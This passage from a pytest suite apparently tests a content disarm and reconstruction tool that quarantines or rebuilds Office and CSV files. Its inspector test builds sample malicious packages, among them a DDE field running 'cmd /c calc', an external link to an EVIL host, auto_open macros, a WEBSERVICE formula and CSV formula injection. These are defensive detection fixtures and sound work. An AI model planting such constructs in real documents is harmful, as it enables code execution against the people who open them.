        pytest.param(n, id=n, marks=marks + ([pytest.mark.xfail(strict=True, reason=CROSSINGS[n])] if n in CROSSINGS else []))
        for n in names
    ]


@pytest.mark.parametrize("name", cases(LEGACY_NAMES, slow=True))
def test_converted_office_file_crosses_without_anything_active(name: str, legacy_results: dict) -> None:
    result = legacy_results[name]
    assert judge(result) == [], (name, result)
    if result["verdict"] == "released":  # the document's own text came through the rebuild
        own_text = {"xls_vba.xls": "Interpreter_Win", "xls_xlm_macrosheet.xls": "4649"}.get(name, BENIGN)
        assert own_text in document_text(Path(str(result["output"]))), name


@pytest.mark.parametrize("name", cases(QUICK_NAMES, slow=False))
def test_text_and_disguised_file_crosses_without_anything_active(name: str, quick_results: dict) -> None:
    assert judge(quick_results[name]) == [], (name, quick_results[name])


@pytest.mark.parametrize(
    "name", [pytest.param(n, id=n, marks=[] if n.endswith(".csv") else [pytest.mark.slow]) for n in BENIGN_FILES]
)
def test_benign_file_keeps_its_content(name: str, request: pytest.FixtureRequest) -> None:
    results = request.getfixturevalue("quick_results" if name.endswith(".csv") else "legacy_results")
    result = results[name]
    assert result["verdict"] == "released", result
    output = Path(str(result["output"]))
    text = csv_text(output.read_bytes()) if output.suffix == ".csv" else document_text(output)
    for expected in BENIGN_FILES[name]:
        assert expected in text, (name, expected, text[:500])
    assert judge(result) == []


@pytest.mark.slow
def test_encrypted_legacy_files_are_held_until_unlocked_then_cross_clean(
    legacy_run: tuple[Path, dict[str, dict[str, object]]],
) -> None:
    """An encrypted .doc/.xls hides everything from a filter: it is held as encrypted (not let
    through, not called damaged); unlocked with its password, it is rebuilt like any other. One
    under Excel's well-known default password opens without asking (policy) and is rebuilt."""
    work, results = legacy_run
    for name in ("secret.doc", "secret.xls"):
        assert (results[name]["verdict"], results[name]["reason"]) == ("quarantined", "encrypted"), results[name]
    assert results["velvet.xls"]["verdict"] == "released" and results["velvet.xls"]["type"] == "xls"
    (work / "password").write_text(PASSWORD + "\n", encoding="utf-8")
    unlocked = run_cli(["quarantine", "unlock", str(results["secret.xls"]["quarantine_id"]), "--password-file",
                        str(work / "password"), "--quarantine", str(work / "q"), "--audit", str(work / "audit.jsonl"),
                        "--outbox", str(work / "out"), "--spool", str(work / "spool")])
    assert unlocked.returncode == 0 and "secret.xlsx" in unlocked.stdout, unlocked
    output = work / "out" / "secret.xlsx"
    assert inspect_package(output) == [] and BENIGN in document_text(output)


def run_cli(arguments: list[str]) -> subprocess.CompletedProcess[str]:
    run = subprocess.run([sys.executable, str(ROOT / "cli.py"), *arguments], capture_output=True, text=True,
                         timeout=300, env={**os.environ, "CDR_CONFIG": "/dev/null"})
    assert "Traceback" not in run.stderr, run.stderr
    return run


def tiny_package(parts: dict[str, str]) -> bytes:
    """A package with a content-types part and whatever parts a check needs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                         'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
        for name, text in parts.items():
            package.writestr(name, text)
    return out.getvalue()


def test_the_inspector_refuses_what_it_does_not_know(tmp_path: Path) -> None:
    """The inspector is what every case above leans on: each active thing it must see, it sees."""
    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    document = f'<w:document xmlns:w="{W}"><w:body><w:p>{{}}</w:p></w:body></w:document>'
    split_dde = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
                 '<w:r><w:instrText>AUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    cases = {
        "split DDE field": {"word/document.xml": document.format(split_dde)},
        "share picture field": {"word/document.xml": document.format(
            f'<w:fldSimple w:instr=\'INCLUDEPICTURE "{UNC}\\x.png"\'/>')},
        "template": {"word/settings.xml": f'<w:settings xmlns:w="{W}"><w:attachedTemplate r:id="r" '
                                          f'xmlns:r="{R_NS}"/></w:settings>'},
        "external picture": {"word/_rels/document.xml.rels": rels.format(
            f'<Relationship Id="r" Type="{_OD}image" Target="file://{EVIL}/x.png" TargetMode="External"/>')},
        "relative link": {"word/_rels/document.xml.rels": rels.format(
            f'<Relationship Id="r" Type="{_OD}hyperlink" Target="../x.exe" TargetMode="External"/>')},
        "VBA": {"word/vbaProject.bin": "x"},
        "macro sheet": {"xl/_rels/workbook.xml.rels": rels.format(
            '<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
            'Target="macrosheets/sheet1.xml"/>')},
        "auto-open name": {"xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                           '2006/main"><definedNames><definedName name="aUTO_oPEN1">Sheet1!A1</definedName>'
                           "</definedNames></workbook>"},
        "web formula": {"xl/worksheets/sheet1.xml": '<worksheet xmlns="http://schemas.openxmlformats.org/'
                        'spreadsheetml/2006/main"><sheetData><row><c><f>_xlfn.WEBSERVICE("http://x/")</f></c>'
                        "</row></sheetData></worksheet>"},
        "program action": {"ppt/slides/slide1.xml": '<p:sld xmlns:p="http://schemas.openxmlformats.org/'
                           'presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
                           'main"><a:hlinkClick action="ppaction://program"/></p:sld>'},
        "note with a macro": {"xl/drawings/vmlDrawing1.vml": '<xml xmlns:x="urn:schemas-microsoft-com:office:excel">'
                              '<x:ClientData ObjectType="Button"><x:FmlaMacro>Main</x:FmlaMacro></x:ClientData></xml>'},
    }
    for what, parts in cases.items():
        path = tmp_path / f"{len(list(tmp_path.iterdir()))}.docx"
        path.write_bytes(tiny_package(parts))
        assert inspect_package(path) != [], what
    clean = tmp_path / "clean.docx"
    clean.write_bytes(tiny_package({"word/document.xml": document.format("<w:r><w:t>ok</w:t></w:r>")}))
    assert inspect_package(clean) == []
    table = tmp_path / "t.csv"
    table.write_bytes("a,'=1+1,-1200\r\nb,\u3000=1+1\r\n".encode("cp932"))
    assert live_cells(table) == ["\u3000=1+1"]
    table.write_bytes('"\u3042""\r\n=1+1\r\n",x\r\n'.encode())
    assert live_cells(table) == [] and live_cells(table, mbcs_view(table.read_bytes())) == ["=1+1"]
